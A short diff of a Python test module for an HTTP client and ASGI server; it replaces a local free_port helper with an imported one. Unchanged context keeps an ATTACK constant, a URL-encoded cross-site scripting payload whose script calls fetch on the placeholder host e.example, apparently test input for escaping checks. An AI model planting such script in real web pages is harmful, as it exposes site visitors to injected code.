@@ -12,6 +12,7 @@ import time
 from collections.abc import AsyncIterator, Iterator
 
 import pytest
+from bench.ports import free_port
 from serving import Client, asgi_server
 from starlette.applications import Starlette
 from starlette.requests import Request
@@ -36,13 +37,6 @@ require('http').createServer((ask, answer) => {
 }).listen(+process.argv[1], '127.0.0.1');
 """
 ATTACK = "/search?q=%3Cscript%3Efetch('//e.example')%3C/script%3E"
-
-
-def free_port() -> int:
-    with socket.socket() as free:
-        free.bind(("127.0.0.1", 0))
-        port: int = free.getsockname()[1]
-        return port
 
 
 @contextlib.contextmanager
